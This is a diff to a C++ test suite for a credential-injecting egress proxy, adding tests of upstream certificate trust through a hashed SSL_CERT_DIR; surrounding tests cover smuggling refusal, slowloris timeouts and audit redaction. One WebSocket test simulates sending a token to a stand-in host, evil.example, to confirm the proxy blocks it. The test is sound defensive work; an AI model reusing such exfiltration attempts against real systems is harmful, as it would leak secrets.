@@ -28,13 +28,19 @@ struct Reply {
   std::string body;
 };
 
+// Which roots bottle-egress verifies the fake upstream with.
+enum class UpstreamTrust {
+  flag,           // its CA as --upstream-ca, and the system roots
+  system_only,    // the system roots only, which do not hold its CA
+  hashed_dir,     // SSL_CERT_DIR: a directory of subject-hash links holding its CA, no bundle
+  hashed_dir_not  // SSL_CERT_DIR: a directory of hash links holding another CA only
+};
+
 // The fake network, a bottle CA, and bottle-egress listening in front of them.
 class NativeEgress {
  public:
-  // `trust_upstream_ca`: pass the fake upstream's CA as --upstream-ca (without it
-  // only the system roots are trusted, and the fake upstream is not).
   // `extra`: more bottle-egress arguments.
-  explicit NativeEgress(bool trust_upstream_ca = true, const std::vector<std::string>& extra = {}) {
+  explicit NativeEgress(UpstreamTrust trust = UpstreamTrust::flag, const std::vector<std::string>& extra = {}) {
     const fs::path& d = dir_.path();
     write_file(d / "auth.json", R"({"tokens": {"access_token": ")" + codex_real + R"("}})");
     const auto made = run({"openssl",
@@ -67,19 +73,13 @@ class NativeEgress {
                                                                  .value_file = (d / "auth.json").string(),
                                                                  .value_json_pointer = "/tokens/access_token"}}));
     port_ = free_port();
-    std::vector<std::string> argv = {"env",
-                                     "-u",
-                                     "BOTTLE_EGRESS_UPSTREAM_CA",
-                                     test_paths::bottle_egress,
-                                     "--listen",
-                                     "127.0.0.1:" + std::to_string(port_),
-                                     "--ca",
-                                     (d / "ca.pem").string(),
-                                     "--routes",
-                                     (d / "routes.json").string(),
-                                     "--parent-proxy",
-                                     "http://127.0.0.1:" + std::to_string(net_.parent_port)};
-    if (trust_upstream_ca) argv.insert(argv.end(), {"--upstream-ca", net_.path("ca.pem").string()});
+    std::vector<std::string> argv = {"env", "-u", "BOTTLE_EGRESS_UPSTREAM_CA"};
+    if (trust == UpstreamTrust::hashed_dir || trust == UpstreamTrust::hashed_dir_not)
+      argv.insert(argv.end(), {"-u", "SSL_CERT_FILE", "SSL_CERT_DIR=" + hashed_roots(trust).string()});
+    argv.insert(argv.end(), {test_paths::bottle_egress, "--listen", "127.0.0.1:" + std::to_string(port_), "--ca",
+                             (d / "ca.pem").string(), "--routes", (d / "routes.json").string(), "--parent-proxy",
+                             "http://127.0.0.1:" + std::to_string(net_.parent_port)});
+    if (trust == UpstreamTrust::flag) argv.insert(argv.end(), {"--upstream-ca", net_.path("ca.pem").string()});
     argv.insert(argv.end(), extra.begin(), extra.end());
     egress_.emplace(argv, log());
     require_egress_ready(*egress_, log(), 20s);
@@ -161,6 +161,18 @@ class NativeEgress {
 
  private:
   std::string proxy_url() const { return "http://127.0.0.1:" + std::to_string(port_); }
+
+  // A roots directory as update-ca-certificates leaves it: certificate files and the
+  // subject-hash links `openssl rehash` makes to them.
+  fs::path hashed_roots(UpstreamTrust trust) const {
+    const fs::path roots = dir_.path() / "roots";
+    fs::create_directories(roots);
+    write_file(roots / "upstream-ca.pem", read_file(trust == UpstreamTrust::hashed_dir ? net_.path("ca.pem") : ca()));
+    const auto rehashed = run({"openssl", "rehash", roots.string()});
+    INFO(rehashed.err);
+    REQUIRE(rehashed.ok());
+    return roots;
+  }
 
   FakeNet net_;
   TempDir dir_;
@@ -269,15 +281,33 @@ TEST_CASE("bottle-egress: smuggling and oversized requests are refused before an
 }
 
 TEST_CASE("bottle-egress: an upstream certificate no trusted CA signed gets 502", "[native-egress]") {
-  NativeEgress egress(false);
+  NativeEgress egress(UpstreamTrust::system_only);
   const auto refused = egress.curl("https://chatgpt.com/untrusted", {"-H", bearer});
   CHECK(refused.status == 502);
   CHECK(contains(refused.body, "certificate verify failed"));
   CHECK_FALSE(egress.upstream_header("/untrusted", "Authorization"));
 }
 
+TEST_CASE("bottle-egress: a root in a hashed SSL_CERT_DIR verifies upstreams, a directory without it does not",
+          "[native-egress]") {
+  // Egress looks roots up in such a directory when a chain needs one instead of
+  // parsing the whole bundle at start (system_roots.hpp); the directory alone must
+  // decide, with no bundle behind it.
+  {
+    NativeEgress egress(UpstreamTrust::hashed_dir);
+    const auto trusted = egress.curl("https://chatgpt.com/hashed", {"-H", bearer});
+    CHECK(trusted.status == 200);
+    CHECK(egress.upstream_header("/hashed", "Authorization") == "Bearer " + codex_real);
+  }
+  NativeEgress egress(UpstreamTrust::hashed_dir_not);
+  const auto refused = egress.curl("https://chatgpt.com/hashed-other", {"-H", bearer});
+  CHECK(refused.status == 502);
+  CHECK(contains(refused.body, "certificate verify failed"));
+  CHECK_FALSE(egress.upstream_header("/hashed-other", "Authorization"));
+}
+
 TEST_CASE("bottle-egress: a head sent too slowly is cut off, and connections past the cap get 503", "[native-egress]") {
-  NativeEgress egress(true, {"--head-timeout", "1", "--max-connections", "1"});
+  NativeEgress egress(UpstreamTrust::flag, {"--head-timeout", "1", "--max-connections", "1"});
   // A head that never ends (slowloris): egress closes it after --head-timeout, long
   // before the 10 s this client waits, and answers nothing.
   bool closed = false;
@@ -330,7 +360,7 @@ except (OSError, ssl.SSLError):
 TEST_CASE("bottle-egress --confdir: one audit record per request, no dummy or real value in it", "[native-egress]") {
   TempDir conf;
   write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
-  NativeEgress egress(true, {"--confdir", conf.path().string()});
+  NativeEgress egress(UpstreamTrust::flag, {"--confdir", conf.path().string()});
 
   // The real value in the path and the dummy in a blocked path: both redacted.
   CHECK(egress.curl("https://chatgpt.com/models/" + codex_real + "?key=secret", {"-H", bearer}).status == 200);
@@ -378,7 +408,7 @@ TEST_CASE("bottle-egress --confdir: one audit record per request, no dummy or re
 TEST_CASE("bottle-egress --confdir: a refused upstream and a refused CONNECT are recorded", "[native-egress]") {
   TempDir conf;
   write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
-  NativeEgress egress(false, {"--confdir", conf.path().string()});
+  NativeEgress egress(UpstreamTrust::system_only, {"--confdir", conf.path().string()});
   CHECK(egress.curl("https://chatgpt.com/untrusted", {"-H", bearer}).status == 502);
   const auto connect =
       egress.raw_exchange("CONNECT chatgpt.com:443 HTTP/1.1\r\nHost: chatgpt.com:443\r\n" + bearer + "\r\n\r\n");
@@ -509,7 +539,7 @@ TEST_CASE("bottle-egress WebSocket: a dummy in a client message to another host 
           "[native-egress]") {
   TempDir conf;
   write_file(conf.path() / "audit.json", bottle::render_egress_audit_config("demo", 1 << 20));
-  NativeEgress egress(true, {"--confdir", conf.path().string()});
+  NativeEgress egress(UpstreamTrust::flag, {"--confdir", conf.path().string()});
   const auto leak = ws(egress, "evil.example", "/ws-echo", "", {"fine", "token " + codex_dummy, "after"});
   CHECK(leak.status == "HTTP/1.1 101 Switching Protocols");
   CHECK(leak.frames == std::vector<std::string>{"hello", "fine"});  // no echo: the message never went upstream
